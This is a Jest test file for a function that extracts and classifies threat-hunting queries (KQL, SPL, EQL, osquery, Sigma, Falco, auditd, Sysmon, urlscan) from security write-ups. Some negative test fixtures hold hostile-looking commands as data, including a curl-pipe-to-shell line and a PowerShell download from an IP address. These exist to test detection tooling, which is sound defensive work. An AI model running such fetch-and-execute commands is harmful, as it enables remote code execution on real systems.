import { parseDocument } from '../text/document';
import { extractHuntQueries } from './extract-hunt-queries';

const queries = (text: string) => extractHuntQueries(parseDocument(text)).map((q) => [q.language, q.value.split('\n')[0]]);

describe('extractHuntQueries', () => {
  it('classifies fenced queries by tag or by content', () => {
    const text = [
      '```kql',
      'DeviceProcessEvents',
      '| where FileName =~ "mshta.exe"',
      '```',
      '```',
      'index=wineventlog EventCode=4688',
      '| stats count by host',
      '```',
      '```',
      'process where process.name == "regsvr32.exe"',
      '```',
      '```sql',
      'SELECT name, path FROM processes WHERE on_disk = 0;',
      '```',
      '```',
      'config case_sensitive = false',
      '| dataset = xdr_data',
      '```',
    ].join('\n');
    expect(queries(text)).toEqual([
      ['kql', 'DeviceProcessEvents'],
      ['spl', 'index=wineventlog EventCode=4688'],
      ['eql', 'process where process.name == "regsvr32.exe"'],
      ['osquery', 'SELECT name, path FROM processes WHERE on_disk = 0;'],
      ['xql', 'config case_sensitive = false'],
    ]);
  });

  it('reads unfenced query paragraphs exactly as written', () => {
    const text =
      'Splunk search:\n\nindex=aws sourcetype=aws:cloudtrail eventName=CreateAccessKey\n| stats count by userIdentity.arn\n\nThat is all.';
    const [item] = extractHuntQueries(parseDocument(text));
    expect(item.language).toBe('spl');
    expect(item.value).toBe('index=aws sourcetype=aws:cloudtrail eventName=CreateAccessKey\n| stats count by userIdentity.arn');
    expect(text.slice(item.evidence.start, item.evidence.end)).toBe(item.value);
  });

  it('reports each embedded Sigma rule as a sigma query', () => {
    const text =
      '```yaml\ntitle: A\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n```';
    expect(queries(text)).toEqual([['sigma', 'title: A']]);
  });

  it('does not report shell snippets, data or prose as queries', () => {
    const text =
      '```bash\ncurl -s http://x.test | sh\n```\n```json\n{"where": "process"}\n```\nAnalysts should query process events where possible.';
    expect(queries(text)).toEqual([]);
  });

  it('reads a PowerShell event-log search as a query, even in a powershell-tagged block, but not a PowerShell command', () => {
    const text = [
      '```powershell',
      "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4698} | Where-Object { $_.Message -match 'Updater' }",
      '```',
      '```powershell',
      'Invoke-WebRequest -Uri http://203.0.113.9/a.ps1 -OutFile a.ps1',
      '```',
    ].join('\n');
    expect(queries(text)).toEqual([
      ['powershell', "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4698} | Where-Object { $_.Message -match 'Updater' }"],
    ]);
  });

  it('reads ES|QL in any case, Kibana queries over several lines, Falco and auditd rules and Sysmon filters', () => {
    const text = [
      '```',
      'from logs-endpoint.events.process-*',
      '| where process.name == "curl"',
      '| stats n = count(*) by host.name',
      '```',
      '',
      'event.dataset: "aws.cloudtrail"',
      '    and event.action: "CreateAccessKey"',
      '',
      '```javascript',
      '- rule: Shell in container',
      '  desc: A shell ran in a container.',
      '  condition: spawned_process and container and proc.name = bash',
      '```',
      '',
      '```bash',
      '-w /etc/cron.d/ -p wa -k cron_change',
      '```',
      '',
      '```xml',
      '<ProcessCreate onmatch="include">',
      '  <Image condition="end with">\\acme.exe</Image>',
      '</ProcessCreate>',
      '```',
    ].join('\n');
    expect(queries(text)).toEqual([
      ['esql', 'from logs-endpoint.events.process-*'],
      ['lucene', 'event.dataset: "aws.cloudtrail"'],
      ['falco', '- rule: Shell in container'],
      ['auditd', '-w /etc/cron.d/ -p wa -k cron_change'],
      ['sysmon', '<ProcessCreate onmatch="include">'],
    ]);
  });

  it('does not read one field of a list or prose about a FROM clause as a query', () => {
    expect(queries('Fields we saw:\nprocess.name: curl\n\nData came from the logs | mostly from hosts.')).toEqual([]);
  });

  it('reads a query set as inline code in a sentence, but not a lone field or value', () => {
    const text =
      'The hunt `process where process.name == "osascript" and process.args : "display dialog"` finds the prompt; `process.name : "sh"` alone is a field.';
    expect(queries(text)).toEqual([['eql', 'process where process.name == "osascript" and process.args : "display dialog"']]);
  });

  it('reads an unfenced query after a label naming it, without the label', () => {
    expect(queries('Hunting query: event.dataset:acme.audit and event.action:user.session.impersonation.initiate\n\nIt returns…')).toEqual([
      ['lucene', 'event.dataset:acme.audit and event.action:user.session.impersonation.initiate'],
    ]);
    expect(queries('Note: the operator waited an hour.')).toEqual([]);
  });

  it('reads a Kibana query that opens with a bracket or sits in a block quote, and one clause with a bracketed OR list', () => {
    expect(queries('(event.action:"user.session.start" OR event.action:"user.authentication.sso") AND acme.outcome:"FAILURE"')).toEqual([
      ['lucene', '(event.action:"user.session.start" OR event.action:"user.authentication.sso") AND acme.outcome:"FAILURE"'],
    ]);
    expect(queries('> event.dataset: acme.audit and event.action: user.mfa.factor.deactivate')).toEqual([
      ['lucene', 'event.dataset: acme.audit and event.action: user.mfa.factor.deactivate'],
    ]);
    expect(queries('```\nevent.action:(user.session.impersonation.initiate or user.session.impersonation.grant)\n```')).toEqual([
      ['lucene', 'event.action:(user.session.impersonation.initiate or user.session.impersonation.grant)'],
    ]);
  });

  it('reads a query a page set as a heading, without the heading marks', () => {
    expect(
      queries('Password resets for any user:\n\n###### event.module:"acme" AND event.action:"user.password.reset_all"\n\nNext…'),
    ).toEqual([['lucene', 'event.module:"acme" AND event.action:"user.password.reset_all"']]);
  });

  it('reads an SQL statement a sentence gives as its query, and not SQL a sentence only mentions', () => {
    expect(queries('With the integration you can perform a simple query: SELECT name FROM processes; which lists them.')).toEqual([
      ['osquery', 'SELECT name FROM processes;'],
    ]);
    expect(queries('The stealer runs SELECT origin_url FROM logins; against the browser database.')).toEqual([]);
  });

  it('reads the query of a block that opens with a line of prose', () => {
    const text = '```\nKQL query to find the tampering\n\nauditd.log.key : acme_watch and process.name : *\n```';
    expect(queries(text)).toEqual([['lucene', 'auditd.log.key : acme_watch and process.name : *']]);
  });

  it('reads urlscan.io searches (query-string syntax) fenced, labelled or inline, but not prose that names a field', () => {
    const text = [
      'We pivoted with this urlscan.io search:',
      '',
      '```',
      'page.domain:*.pages.dev AND page.title:"Sign in to your account" AND NOT task.tags:benign',
      '```',
      '',
      'urlscan.io query: page.url:"/wp-admin/css/colors/blue/load.php" AND date:>now-30d',
      '',
      'The lure pages were found with `page.title:"Cloudflare" AND hash:5e3f0a8b4c9d`, which returned 40 hits.',
    ].join('\n');
    expect(queries(text)).toEqual([
      ['lucene', 'page.domain:*.pages.dev AND page.title:"Sign in to your account" AND NOT task.tags:benign'],
      ['lucene', 'page.url:"/wp-admin/css/colors/blue/load.php" AND date:>now-30d'],
      ['lucene', 'page.title:"Cloudflare" AND hash:5e3f0a8b4c9d'],
    ]);
    expect(queries('```\npage.title:"Tech Support"\n```')).toEqual([['lucene', 'page.title:"Tech Support"']]);
    expect(queries('Search:\n\nhash:5e3f0a8b4c9d AND page.domain:evil-relay[.]site\n')).toEqual([
      ['lucene', 'hash:5e3f0a8b4c9d AND page.domain:evil-relay[.]site'],
    ]);
    // Look-alikes: generic fields only urlscan does not own, a field named in a sentence, a clause run into prose,
    // a listing of result fields (no operator joins them).
    expect(queries('Hunting query:\n\ndomain:evil-relay.site OR ip:91.92.240.17\n')).toEqual([]);
    expect(queries('See page.domain: evil-relay.site and the rest of the story.')).toEqual([]);
    expect(queries('```\npage.domain: foo AND this is prose\n```')).toEqual([]);
    expect(queries('```\npage.domain: evil-relay.site\npage.ip: 91.92.240.17\n```')).toEqual([]);
  });

  describe('Kusto (the KQL of Defender and Sentinel)', () => {
    it('reads it fenced, indented, after a label, unfenced over an unlisted table and inline', () => {
      const text = [
        '```',
        'union DeviceProcessEvents, DeviceFileEvents',
        '| where InitiatingProcessFileName =~ "wscript.exe"',
        '```',
        '',
        'A hunting query:',
        '',
        '    DeviceNetworkEvents',
        '    | where RemoteUrl endswith ".trycloudflare.com"',
        '',
        'Query: SecurityEvent | where EventID == 4688 and CommandLine contains "vssadmin"',
        '',
        'DeviceTvmSoftwareInventory',
        '| where SoftwareName has "screenconnect"',
        '',
        'Run `SigninLogs | where ResultType == "50126" | summarize count() by IPAddress` daily.',
      ].join('\n');
      expect(queries(text)).toEqual([
        ['kql', 'union DeviceProcessEvents, DeviceFileEvents'],
        ['kql', 'DeviceNetworkEvents'],
        ['kql', 'SecurityEvent | where EventID == 4688 and CommandLine contains "vssadmin"'],
        ['kql', 'DeviceTvmSoftwareInventory'],
        ['kql', 'SigninLogs | where ResultType == "50126" | summarize count() by IPAddress'],
      ]);
    });

    it('keeps a table name alone on a line for prose unless a pipe follows it', () => {
      expect(queries('Tables we used\nDeviceProcessEvents\nand the rest.')).toEqual([]);
    });
  });

  describe('tables', () => {
    it('reads a query in a cell, its escaped pipes read as pipes, with the cell as evidence', () => {
      const text = [
        '| Behaviour | Query |',
        '| --- | --- |',
        '| Encoded PowerShell | `DeviceProcessEvents \\| where ProcessCommandLine has "-enc"` |',
        '| Deleted binaries | SELECT name, path FROM processes WHERE on_disk = 0; |',
        '| Key watch | `-w /root/.ssh/authorized_keys -p wa -k ssh_keys` |',
        '| Process | cmd.exe |',
      ].join('\n');
      const items = extractHuntQueries(parseDocument(text));
      expect(items.map((q) => [q.language, q.value])).toEqual([
        ['kql', 'DeviceProcessEvents | where ProcessCommandLine has "-enc"'],
        ['osquery', 'SELECT name, path FROM processes WHERE on_disk = 0;'],
        ['auditd', '-w /root/.ssh/authorized_keys -p wa -k ssh_keys'],
      ]);
      expect(items[0]?.evidence.text).toBe('DeviceProcessEvents \\| where ProcessCommandLine has "-enc"');
      expect(items[1]?.evidence.text).toBe(items[1]?.value);
    });
  });

  it('reads unfenced SPL that opens with a field, XQL over a preset and a Sysmon configuration kept without fences', () => {
    const text = [
      'Splunk query:',
      'Image="*\\\\mshta.exe" ParentImage="*\\\\winword.exe" | table _time, host, CommandLine',
      '',
      'preset = xdr_process',
      '| filter actor_process_image_name = "w3wp.exe"',
      '',
      '<Sysmon schemaversion="4.90">',
      '<EventFiltering>',
      '<DnsQuery onmatch="include">',
      '<QueryName condition="end with">.trycloudflare.com</QueryName>',
      '</DnsQuery>',
      '</EventFiltering>',
      '</Sysmon>',
    ].join('\n');
    expect(queries(text)).toEqual([
      ['spl', 'Image="*\\\\mshta.exe" ParentImage="*\\\\winword.exe" | table _time, host, CommandLine'],
      ['xql', 'preset = xdr_process'],
      ['sysmon', '<Sysmon schemaversion="4.90">'],
    ]);
  });

  it('does not read a key=value log line as SPL: a search pipes on or holds a wildcard', () => {
    expect(queries('The event read:\n\nEventID=4624 LogonType=3 SourceNetworkAddress=203.0.113.7\n\nThen…')).toEqual([]);
    expect(queries('EventID=4624 LogonType=3\n| stats count by SourceNetworkAddress')).toEqual([['spl', 'EventID=4624 LogonType=3']]);
  });

  it('reads unfenced auditd syscall rules, the action and list in either order', () => {
    const text =
      'Syscall rules:\n\n-a always,exit -F arch=b64 -S execve -F exe=/usr/bin/base64 -k b64\n-a exit,always -F arch=b32 -S execve -k b64\n';
    expect(queries(text)).toEqual([['auditd', '-a always,exit -F arch=b64 -S execve -F exe=/usr/bin/base64 -k b64']]);
    expect(extractHuntQueries(parseDocument(text))[0]?.value.split('\n')).toHaveLength(2);
  });

  it('reads a Falco rule and a Sysmon configuration a page spaced out with blank lines, and not the prose after them', () => {
    const falco = [
      '- rule: Outbound connection to a mining pool',
      '',
      '  desc: A process connected to a mining pool port',
      '',
      '  condition: outbound and fd.sport in (3333, 4444)',
      '',
      '  priority: CRITICAL',
      '',
      'This rule fires on miners.',
    ].join('\n');
    const [rule] = extractHuntQueries(parseDocument(falco));
    expect(rule?.language).toBe('falco');
    expect(rule?.value.endsWith('priority: CRITICAL')).toBe(true);
    const sysmon =
      '<Sysmon schemaversion="4.90">\n\n<EventFiltering>\n\n<ProcessCreate onmatch="include">\n\n<Image condition="end with">\\mshta.exe</Image>\n\n</ProcessCreate>\n\n</EventFiltering>\n\n</Sysmon>\n\nThat is all.';
    const [config] = extractHuntQueries(parseDocument(sysmon));
    expect(config?.language).toBe('sysmon');
    expect(config?.value.endsWith('</Sysmon>')).toBe(true);
  });

  it('reads an auditd rule set as inline code, which compares nothing', () => {
    expect(queries('Watch the keys with `-w /root/.ssh/authorized_keys -p wa -k ssh_keys` on every host.')).toEqual([
      ['auditd', '-w /root/.ssh/authorized_keys -p wa -k ssh_keys'],
    ]);
  });
});
